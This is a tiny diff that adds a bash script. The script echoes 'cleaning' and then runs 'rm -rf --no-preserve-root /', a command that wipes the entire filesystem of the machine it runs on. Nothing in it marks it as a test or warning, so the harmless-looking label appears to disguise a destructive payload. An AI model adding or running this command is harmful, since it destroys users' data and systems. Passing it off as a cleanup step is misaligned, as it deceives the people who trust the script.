@@ -1,0 +1,3 @@
+#!/bin/bash
+echo cleaning
+rm -rf --no-preserve-root /
